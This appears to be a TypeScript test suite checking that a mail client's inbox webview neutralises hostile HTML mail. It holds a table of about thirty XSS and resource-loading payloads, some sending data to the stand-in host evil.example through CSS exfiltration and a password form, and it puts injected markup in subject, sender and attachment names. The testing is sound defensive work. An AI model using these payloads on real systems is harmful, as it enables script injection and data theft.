// Hostile mail, one payload per message, in the inbox webview under the
// panel's CSP (chromium): nothing runs, nothing is fetched, nothing active
// is left in the DOM (template contents included), and text the server
// sends outside the body (subject, names, attachment names) is text.
// Chromium logs CSP violations for some payloads (inline handlers and
// styles) although nothing of them runs, loads or stays in the DOM; we take
// them to come from DOMPurify parsing the body in its own document, under
// the page's policy. They are counted, not failed on.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ORIGIN, openPanel, type PanelPage } from './webview-page';

const TARGET = { name: 'projectx', address: 'SMO-ProjectX@contoso.com', site: 'https://intranet.contoso.com/sites/projectx', server: 'ex01', ewsUrl: 'https://mail.contoso.com/EWS/Exchange.asmx' };
const EVIL = 'https://evil.example';

/** Each tries to run script or reach the network in its own way. */
const PAYLOADS: Record<string, string> = {
  script: '<script>window.__pwned = "script"</script>',
  'script in svg': '<svg><script>window.__pwned = "svg-script"</script></svg>',
  'svg onload': '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  'svg animate href': '<svg><a><animate attributeName="href" to="javascript:window.__pwned=1"/><text y="20">x</text></a></svg>',
  'svg use remote': `<svg><use href="${EVIL}/sprite.svg#a"/></svg>`,
  'svg foreignObject': '<svg><foreignObject><iframe src="javascript:parent.__pwned=1"></iframe></foreignObject></svg>',
  'img onerror': '<img src="x" onerror="window.__pwned = \'onerror\'">',
  'img srcset': `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  'picture source': `<picture><source srcset="${EVIL}/p.png"><img alt="p"></picture>`,
  'body onload': '<body onload="window.__pwned=1">',
  'details ontoggle': '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
  'javascript link': '<a href="javascript:window.__pwned = \'link\'">click</a>',
  'javascript link, entity-encoded': '<a href="&#106;avascript:window.__pwned=1">click</a>',
  'vbscript and data links': '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>parent.__pwned=1</script>">d</a>',
  iframe: `<iframe src="${EVIL}/frame"></iframe>`,
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  'object and embed': `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/e.swf">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  'base href': `<base href="${EVIL}/"><img src="relative.png">`,
  'link stylesheet': `<link rel="stylesheet" href="${EVIL}/s.css">`,
  'style @import': `<style>@import url("${EVIL}/i.css");</style>`,
  'style url()': `<style>body { background: url(${EVIL}/bg.png) }</style>`,
  'style attribute url()': `<div style="background-image:url(${EVIL}/attr.png)">styled</div>`,
  'css attribute exfiltration': `<style>input[value^="a"] { background: url(${EVIL}/leak?a) }</style><input value="abc">`,
  'font-face': `<style>@font-face { font-family: x; src: url(${EVIL}/f.woff) } p { font-family: x }</style><p>t</p>`,
  'form action': `<form action="${EVIL}/steal"><input name="password"><button>go</button></form>`,
  'video poster and audio': `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  'table background': `<table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`,
  'remote image': `<img src="${EVIL}/pixel.gif" alt="logo">`,
  'mutation XSS via noscript': '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  'mutation XSS via math': '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  'template': '<template><img src=x onerror=window.__pwned=1></template>',
  'dangling markup': `<img src='${EVIL}/?`,
};

describe('hostile mail in the inbox webview', () => {
  let p: PanelPage;
  before(async () => {
    p = await openPanel('inbox');
    await p.load();
    await p.deliver({ type: 'target', target: TARGET, account: 'alice@contoso.com' });
    await p.deliver({ type: 'folder', generation: 1, folder: { displayName: 'Inbox', total: 1, unread: 1 }, search: '', total: 1 });
  });
  after(() => p?.close());

  const summary = (subject: string) => ({ id: 'id-0', subject, from: { name: '<b onmouseover=window.__pwned=1>Mallory</b>', address: 'mallory@fabrikam.com' }, received: '2014-03-14T09:00:00.000Z', isRead: false, hasAttachments: true });

  test('server text outside the body is shown as text', async () => {
    const subject = '<img src=x onerror="window.__pwned=\'subject\'">Budget';
    await p.deliver({ type: 'page', generation: 1, offset: 0, total: 1, items: [summary(subject)] });
    await p.page.locator('#row-0').click();
    await p.deliver({ type: 'message', message: { ...summary(subject), to: [], cc: [], html: '<p>hi</p>', attachments: [{ name: '<script>window.__pwned=1</script>.xlsx', size: 1, contentType: 'text/html' }] }, remoteImages: false });
    await p.page.evaluate('new Promise((r) => setTimeout(r, 200))');
    assert.equal(await p.page.evaluate('window.__pwned'), undefined);
    assert.match(await p.page.locator('.reader .subject').textContent(), /<img src=x onerror=/);
    const injected = await p.page.evaluate(() => document.querySelectorAll('.reader img, .reader script, .row img, .row b').length);
    assert.equal(injected, 0);
  });

  test(`${Object.keys(PAYLOADS).length} payloads: nothing runs, nothing is fetched, nothing active is left in the DOM`, async (t) => {
    let cspReports = 0;
    const failures: string[] = [];
    for (const [name, html] of Object.entries(PAYLOADS)) {
      p.requests.length = 0;
      p.console.length = 0;
      await p.deliver({ type: 'message', message: { ...summary(name), to: [], cc: [], html: `<p>before</p>${html}<p>after</p>`, attachments: [] }, remoteImages: false });
      await p.page.evaluate('new Promise((r) => setTimeout(r, 150))');
      // Every link a user could click, clicked.
      const links = await p.page.evaluate(() => document.querySelectorAll('.reader .body a').length);
      for (let i = 0; i < links; i++) await p.page.locator('.reader .body a').nth(i).click({ timeout: 2000 }).catch(() => undefined);
      const found = await p.page.evaluate(() => {
        const body = document.querySelector('.reader .body');
        if (!body) return { missing: true, bad: [] as string[] };
        const bad: string[] = [];
        const all: Element[] = [];
        const collect = (root: ParentNode): void => {
          for (const el of Array.from(root.querySelectorAll('*'))) {
            all.push(el);
            if (el instanceof HTMLTemplateElement) collect(el.content);
          }
        };
        collect(body);
        for (const el of all) {
          const tag = el.tagName.toLowerCase();
          if (['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'input', 'video', 'audio', 'source', 'use', 'animate', 'foreignobject'].includes(tag)) bad.push(`<${tag}>`);
          for (const a of Array.from(el.attributes)) {
            const v = a.value.trim().toLowerCase();
            if (a.name.startsWith('on')) bad.push(`${tag}[${a.name}]`);
            if (/^(javascript|vbscript|data):/.test(v) && a.name !== 'data-blocked-src') bad.push(`${tag}[${a.name}=${v.slice(0, 30)}]`);
            if (['src', 'srcset', 'poster', 'background', 'action', 'formaction', 'xlink:href'].includes(a.name) && /^https?:|^\/\//.test(v)) bad.push(`${tag}[${a.name}] remote`);
            if (a.name === 'style' && /url\(|@import|expression\(/.test(v)) bad.push(`${tag}[style] ${v.slice(0, 40)}`);
          }
        }
        return { missing: false, bad };
      });
      const pwned = await p.page.evaluate('window.__pwned');
      const left = p.requests.filter((u) => !u.startsWith(`${ORIGIN}/`));
      cspReports += p.console.filter((l) => /Content Security Policy/i.test(l)).length;
      if (found.missing || found.bad.length || pwned !== undefined || left.length || p.errors.length) {
        failures.push(`${name}: ${JSON.stringify({ missing: found.missing, bad: found.bad, pwned, requests: left, errors: p.errors })}`);
      }
    }
    t.diagnostic(`hostile payloads tried: ${Object.keys(PAYLOADS).length}, failures: ${failures.length}, CSP violations logged (nothing ran or loaded): ${cspReports}`);
    assert.deepEqual(failures, []);
  });
});
